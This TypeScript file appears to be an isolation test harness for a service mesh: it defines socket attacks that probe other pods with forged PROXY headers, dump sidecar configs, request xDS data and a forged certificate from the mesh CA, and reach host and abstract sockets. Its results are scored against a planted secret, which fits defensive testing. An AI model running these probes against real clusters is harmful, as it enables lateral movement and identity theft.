/** Attacks on UNIX sockets: other pods', the mesh's, this machine's. */
import { readFileSync, readdirSync } from 'node:fs'
import { connect, type ClientHttp2Stream, type IncomingHttpHeaders } from 'node:http2'
import { join } from 'node:path'
import { connect as connectTls } from 'node:tls'
import { anyOf, refused, skipped, succeeded, type Attack, type Outcome } from './attack.ts'
import type { Facts } from './facts.ts'
import { forgeIdentity } from './forged-identity.ts'
import { proxyV2 } from './proxy-header.ts'
import { httpText, judged, reasonOf, talk } from './talk.ts'

const GRPC_WITHIN_MS = 2000
const MAX_MESSAGE = 90

/** Every socket of the mesh that can be found, and what speaks there. */
async function podPipes(facts: Facts): Promise<Outcome> {
  const { mesh, userDb, payment } = facts
  const known = [userDb.pipe, payment.pipe].filter((path) => path !== undefined)
  let found: string[] = []
  try {
    found = readdirSync(mesh.socketDir).filter((name) => /^pod-.*-\d+\.sock$/.test(name))
  } catch (error) {
    if (known.length === 0) return refused((error as NodeJS.ErrnoException).code ?? String(error))
  }
  const paths = new Set([...known, ...found.map((name) => join(mesh.socketDir, name))])
  const header = proxyV2({ host: payment.address, port: 40_000 }, { host: userDb.address, port: userDb.appPort })
  const first = Buffer.concat([header, Buffer.from(httpText({ host: userDb.service }))])
  return anyOf([...paths].map((path) => async () => judged(await talk({ path }, { first }), facts.secret)))
}

/** Succeeded where the socket answers 200. */
async function http(path: string | undefined, url: string): Promise<Outcome> {
  if (path === undefined) return skipped('there is none')
  const answer = await talk({ path }, { first: httpText({ host: 'localhost', path: url }) })
  return / 200 /.test(answer.text.split('\r\n')[0] ?? '')
    ? succeeded(`GET ${url} was answered`)
    : refused(reasonOf(answer))
}

/** Opens TLS without a certificate and sends one message; succeeded where a message comes back. */
function grpc(path: string, method: string, message: Buffer, isUnary: boolean): Promise<Outcome> {
  return new Promise((done) => {
    const end = (outcome: Outcome): void => {
      clearTimeout(timer)
      session.destroy()
      done(outcome)
    }
    const timer = setTimeout(() => end(refused('timeout')), GRPC_WITHIN_MS)
    const session = connect('https://localhost', {
      createConnection: () => connectTls({ path, rejectUnauthorized: false, ALPNProtocols: ['h2'] }),
    })
    session.on('error', (error: NodeJS.ErrnoException) => end(refused(error.code ?? error.message)))
    const call: ClientHttp2Stream = session.request({
      ':method': 'POST',
      ':path': method,
      'content-type': 'application/grpc',
      te: 'trailers',
    })
    const head = Buffer.alloc(5)
    head.writeUInt32BE(message.length, 1)
    const status = (fields: IncomingHttpHeaders): void => {
      const [code, message] = [fields['grpc-status'], fields['grpc-message']].map((value) => value?.toString() ?? '')
      if (code !== '' && code !== '0') end(refused(`gRPC ${code} ${message}`.slice(0, MAX_MESSAGE)))
    }
    call.on('response', status)
    call.on('trailers', status)
    call.on('data', (chunk: Buffer) => end(succeeded(`${chunk.length} bytes of an answer`)))
    // the session's own error says more, and comes next
    call.on('error', (error: NodeJS.ErrnoException) => setImmediate(() => end(refused(error.code ?? error.message))))
    call.on('close', () => setImmediate(() => end(refused('closed without an answer'))))
    call.write(Buffer.concat([head, message]))
    if (isUnary) call.end()
  })
}

/** A length-delimited protobuf field. */
function field(number: number, value: Buffer | string): Buffer {
  const body = Buffer.from(value as string)
  const size = body.length < 128 ? [body.length] : [(body.length & 127) | 128, body.length >> 7]
  return Buffer.concat([Buffer.from([(number << 3) | 2, ...size]), body])
}

function xds({ mesh, payment }: Facts): Promise<Outcome> {
  const id = `sidecar~${payment.address}~${payment.pod}.default~default.svc.cluster.local`
  const node = field(1, id)
  const type = 'type.googleapis.com/envoy.config.cluster.v3.Cluster'
  const service = '/envoy.service.discovery.v3.AggregatedDiscoveryService'
  const whole = Buffer.concat([field(2, node), field(4, type)])
  const delta = Buffer.concat([field(1, node), field(2, type)])
  return anyOf([
    () => grpc(mesh.xdsSocket, `${service}/StreamAggregatedResources`, whole, false),
    () => grpc(mesh.xdsSocket, `${service}/DeltaAggregatedResources`, delta, false),
  ])
}

function ca({ mesh, payment }: Facts): Promise<Outcome> {
  const { csrPem } = forgeIdentity(`spiffe://${payment.principal}`)
  const method = '/istio.v1.auth.IstioCertificateService/CreateCertificate'
  return anyOf([() => grpc(mesh.caSocket, method, field(1, csrPem), true)])
}

/** The gateway's way out, asked for what it must not lead to. */
function egress({ mesh, host, userDb }: Facts): Promise<Outcome> {
  const source = { host: '10.244.0.99', port: 40_000 }
  const targets = [
    { host: '127.0.0.1', port: host.loopbackPort },
    { host: userDb.address, port: userDb.appPort },
  ]
  return anyOf(
    targets.map((target) => async () => {
      const first = Buffer.concat([proxyV2(source, target), Buffer.from(httpText({ host: 'localhost' }))])
      return judged(await talk({ path: mesh.egressSocket }, { first }), host.secret)
    }),
  )
}

function hostSockets({ host }: Facts, paths: readonly string[]): Promise<Outcome> {
  return anyOf(
    paths.map((path) => async () => {
      const answer = await talk({ path }, { first: '\r\n' })
      return judged(answer, host.secret, answer.text.includes(host.secret) ? path : '')
    }),
  )
}

async function abstractSocket({ host }: Facts): Promise<Outcome> {
  return judged(await talk({ path: `\0${host.abstractSocket}` }, { first: '\r\n' }), host.secret)
}

/** What the kernel lists as sockets here is this pod's own, or the list says too much. */
function socketList({ mesh, host }: Facts): Outcome {
  const list = readFileSync('/proc/net/unix', 'utf8')
  const foreign = list.split('\n').filter((line) => line.includes(mesh.socketDir) || line.includes(host.abstractSocket))
  return foreign.length > 0 ? succeeded(`${foreign.length} sockets of others are listed`) : refused('none is listed')
}

export const SOCKETS: readonly Attack[] = [
  { name: 'pod-pipes', tries: "other pods' sockets, found and by path", env: true, run: podPipes },
  {
    name: 'sidecar-admin',
    tries: "user-db's sidecar, admin socket",
    env: false,
    run: ({ userDb }) => http(userDb.adminSocket, '/config_dump'),
  },
  {
    name: 'own-sidecar-admin',
    tries: "the own sidecar's admin socket",
    env: false,
    run: ({ own }) => http(own.adminSocket, '/config_dump'),
  },
  {
    name: 'control-socket',
    tries: 'the control API',
    env: false,
    run: ({ mesh }) => http(mesh.controlSocket, '/v1/info'),
  },
  {
    name: 'supervisor-socket',
    tries: "the supervisor's API",
    env: false,
    run: ({ mesh }) => http(mesh.supervisorSocket, '/v1/ps'),
  },
  { name: 'xds-without-certificate', tries: 'xDS as payment, no certificate', env: true, run: xds },
  { name: 'ca-without-token', tries: "payment's certificate from the CA, no token", env: true, run: ca },
  { name: 'egress-socket', tries: "the gateway's way out, to this machine", env: true, run: egress },
  {
    name: 'host-socket',
    tries: 'a UNIX socket of this machine',
    env: false,
    run: (facts) => hostSockets(facts, facts.host.sockets.early),
  },
  {
    name: 'host-socket-late',
    tries: 'one opened after the pod began',
    env: false,
    run: (facts) => hostSockets(facts, facts.host.sockets.late),
  },
  {
    name: 'host-socket-at-home',
    tries: "the same, in a folder of the user's",
    env: false,
    run: (facts) => hostSockets(facts, facts.host.sockets.lateAtHome),
  },
  { name: 'abstract-socket', tries: 'an abstract UNIX socket of this machine', env: false, run: abstractSocket },
  { name: 'socket-list', tries: '/proc/net/unix names sockets of others', env: false, run: socketList },
]
